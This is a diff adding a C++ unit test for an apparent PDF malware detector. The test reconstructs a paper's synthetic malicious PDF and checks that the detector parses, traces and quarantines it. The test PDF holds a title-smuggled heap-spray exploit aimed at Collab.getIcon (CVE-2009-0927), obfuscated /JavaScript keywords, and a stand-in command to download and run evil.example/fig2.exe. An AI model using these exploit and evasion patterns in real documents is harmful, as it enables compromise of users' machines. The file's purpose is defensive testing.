@@ -1,0 +1,131 @@
+// Figure 2 fidelity test: reconstructs the paper's synthetic malicious
+// sample — ten indirect objects, multiple possible chain start points
+// ((2 0), (4 0), (5 0)), the /JavaScr#69pt hex-escaped keyword in object
+// (4 0), a decoy chain ending in an empty object at (6 0), and shellcode
+// smuggled through the document title referenced as this.info.title —
+// then verifies chain reconstruction, the static features, and end-to-end
+// detection behave exactly as §III describes.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "core/static_features.hpp"
+#include "pdf/parser.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+// The Figure-2 document, written out in raw PDF syntax so the obfuscated
+// spellings survive exactly as the paper draws them.
+std::string figure2_pdf() {
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil.example/fig2.exe", "c:/fig2.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/fig2.exe"}});
+  // The title carries the real payload (§II: "attackers can hide shellcode
+  // at some weird places in a document, e.g., in the title").
+  const std::string title_payload =
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));";
+
+  return
+      "%PDF-1.6\n"
+      // (1 0) catalog: the trigger root.
+      "1 0 obj\n<< /Type /Catalog /Pages 8 0 R /OpenAction 2 0 R /Names 9 0 R >>\nendobj\n"
+      // (2 0) first start point: action with the hex-escaped keyword,
+      // whose /JS code lives in the stream (4 0).
+      "2 0 obj\n<< /Type /Action /S /JavaScr#69pt /JS 4 0 R /Next 5 0 R >>\nendobj\n"
+      // (3 0) info dictionary holding the smuggled payload.
+      "3 0 obj\n<< /Title (" + title_payload + ") >>\nendobj\n"
+      // (4 0) the extraction-evading stub.
+      "4 0 obj\n<< /Length 22 >>\nstream\neval(this.info.Title);\nendstream\nendobj\n"
+      // (5 0) second start point: chained action whose chain dead-ends.
+      "5 0 obj\n<< /Type /Action /S /JavaScript /JS (var decoy = 1;) /Aux 6 0 R >>\nendobj\n"
+      // (6 0) the empty object terminating a decoy chain.
+      "6 0 obj\n<< >>\nendobj\n"
+      // (7 0) a blank page.
+      "7 0 obj\n<< /Type /Page /Parent 8 0 R >>\nendobj\n"
+      // (8 0) page tree.
+      "8 0 obj\n<< /Type /Pages /Kids [7 0 R] /Count 1 >>\nendobj\n"
+      // (9 0) names dictionary -> (10 0) javascript tree (empty).
+      "9 0 obj\n<< /JavaScript 10 0 R >>\nendobj\n"
+      "10 0 obj\n<< /Names [] >>\nendobj\n"
+      "trailer\n<< /Root 1 0 R /Info 3 0 R /Size 11 >>\n"
+      "startxref\n0\n%%EOF\n";
+}
+
+}  // namespace
+
+TEST(Figure2, TenIndirectObjectsParse) {
+  pd::ParseStats stats;
+  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()), &stats);
+  EXPECT_EQ(stats.indirect_objects, 10u);
+  ASSERT_NE(doc.catalog(), nullptr);
+}
+
+TEST(Figure2, ChainReconstructionFindsBothScripts) {
+  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  ASSERT_EQ(a.sites.size(), 2u);  // objects (2 0) and (5 0) carry /JS
+  for (const auto& site : a.sites) {
+    EXPECT_TRUE(site.triggered) << "object " << site.object_num;
+  }
+  // The /Next link puts both sites in one sequence (§III-C).
+  EXPECT_EQ(a.sites[0].sequence_id, a.sites[1].sequence_id);
+  // The chain covers the decoy's empty object and the catalog.
+  EXPECT_TRUE(a.chain_objects.count(6));
+  EXPECT_TRUE(a.chain_objects.count(1));
+}
+
+TEST(Figure2, StaticFeaturesMatchTheFigure) {
+  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
+  const co::StaticFeatures f = co::extract_static_features(doc);
+  EXPECT_TRUE(f.f1()) << "sparse doc: high chain ratio, got " << f.js_chain_ratio;
+  EXPECT_TRUE(f.f3()) << "/JavaScr#69pt must be flagged";
+  EXPECT_TRUE(f.f4()) << "the empty object (6 0) must be counted";
+  EXPECT_GE(f.binary_sum(), 3);
+}
+
+TEST(Figure2, TitleSmuggledPayloadDefeatsBareExtraction) {
+  // Extract-and-emulate (§II critique): the visible script is just
+  // eval(this.info.Title) — in a bare engine it dies immediately.
+  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
+  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
+  std::string all;
+  for (const auto& s : a.sites) all += s.source;
+  EXPECT_NE(all.find("this.info.Title"), std::string::npos);
+  EXPECT_EQ(all.find("unescape"), std::string::npos)
+      << "the spray payload must not be visible in the extracted JS";
+}
+
+TEST(Figure2, EndToEndDetectionAndConfinement) {
+  sy::Kernel kernel;
+  sp::Rng rng(42);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  co::FrontEndResult fe = frontend.process(sp::to_bytes(figure2_pdf()));
+  ASSERT_TRUE(fe.ok);
+  ASSERT_EQ(fe.record.entries.size(), 2u);
+  detector.register_document(fe.record.key, "figure2.pdf", fe.features);
+  auto r = reader.open_document(fe.output, "figure2.pdf");
+  EXPECT_TRUE(r.js_ran);
+  ASSERT_EQ(r.fired_cves.size(), 1u);
+  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");
+
+  const co::Verdict v = detector.verdict(fe.record.key);
+  EXPECT_TRUE(v.malicious);
+  EXPECT_GE(v.malscore, 30.0) << "static + several in-JS features";
+  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/fig2.exe"));
+}
